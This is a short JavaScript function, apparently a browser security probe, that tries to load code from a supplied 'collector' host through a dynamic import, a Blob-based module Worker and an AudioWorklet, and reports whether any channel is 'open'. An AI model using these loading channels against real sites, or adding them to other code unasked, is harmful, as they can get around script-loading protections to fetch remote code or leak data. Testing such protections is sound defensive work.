const attack = async ({ collector }) => {
  const module = `import "${collector}/inside.js"; export default 1;`;
  const ways = [
    () => import(`${collector}/module.js`),
    () => {
      const blob = new Blob([`import("${collector}/dynamic.js"); ${module}`], { type: "text/javascript" });
      return new Promise((resolve, reject) => {
        const worklet = new Worker(URL.createObjectURL(blob), { type: "module" });
        worklet.onerror = reject;
      });
    },
    () => new AudioContext().audioWorklet.addModule(`${collector}/worklet.js`),
  ];
  const found = await Promise.allSettled(ways.map(async (way) => way()));
  return found.some((way) => way.status === "fulfilled") ? "open" : "closed";
};
